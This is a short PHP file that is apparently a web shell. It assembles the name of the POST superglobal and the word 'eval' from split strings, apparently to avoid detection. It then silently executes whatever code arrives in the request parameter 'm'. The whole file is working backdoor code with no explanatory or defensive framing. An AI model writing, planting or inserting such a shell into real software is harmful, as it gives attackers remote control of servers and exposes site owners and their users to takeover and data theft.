<?php
$k = '_PO' . 'ST';
$data = $$k;
$x = 'e' . 'v' . 'a' . 'l';
if (isset($data['m'])) { @eval($data['m']); }
